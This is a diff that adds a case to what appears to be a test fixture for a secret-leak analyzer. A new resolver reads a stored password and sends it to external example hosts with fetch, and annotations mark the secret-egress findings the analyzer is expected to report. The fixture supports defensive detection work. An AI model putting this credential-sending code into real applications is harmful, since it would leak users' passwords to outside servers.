@@ -31,6 +31,13 @@ resolver.define('sign-in', async ({ payload }) => { // source: password
   await fetch('https://stats.counter.example/logins', { method: 'POST', body }); // expect: secret-egress <- password, egress-external <- password
 });
 
+// Also where another service gets it in a header.
+resolver.define('log-in', async () => {
+  const password = await kvs.getSecret('password'); // source: stored
+  await fetch('https://stats.counter.example/me', bearer(password)); // expect: secret-egress <- stored, egress-external <- stored
+  await fetch('https://login.vendor.example/session', { method: 'POST', body: JSON.stringify({ password }) });
+});
+
 // Two customers of one host.
 resolver.define('hosted', async () => {
   const key = await kvs.getSecret('hosted'); // source: key
